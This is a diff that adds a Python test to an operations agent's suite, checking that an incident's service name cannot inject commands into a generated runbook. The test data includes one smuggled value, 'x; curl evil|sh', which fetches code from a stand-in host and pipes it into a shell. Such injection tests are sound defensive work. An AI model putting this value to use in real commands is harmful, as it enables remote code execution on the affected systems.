@@ -178,3 +178,15 @@ def test_the_morning_says_that_a_draft_waits_until_somebody_corrects_it(tmp_path
     assert f"**Today:** 1. a runbook was drafted, correct it: ops/runbooks/{NAME}" in said()
     (tmp_path / "ops/runbooks" / NAME).write_text(text.replace("draft,", "reviewed,"))
     assert "runbook" not in said()
+
+
+def test_what_somebody_calls_it_stands_in_no_command_of_a_draft(tmp_path: Path) -> None:
+    host = host_of()
+    host.ask(cmd.Raise(by="ann", text="it leaks", service="x; curl evil|sh"))
+    host.ask(cmd.Resolve(by="ann", incident="001", because="the pump was cleaned"))
+    host.run(minutes=40)
+    Memory(tmp_path, layout="standalone", host="web-1", redact=str).rebuild(host.recorded)
+    (book,) = (tmp_path / "ops/runbooks").iterdir()
+
+    assert "   opsagent show OPS-20261118-001\n" in book.read_text()
+    assert not [line for line in book.read_text().splitlines() if line.startswith("   ") and "evil" in line]
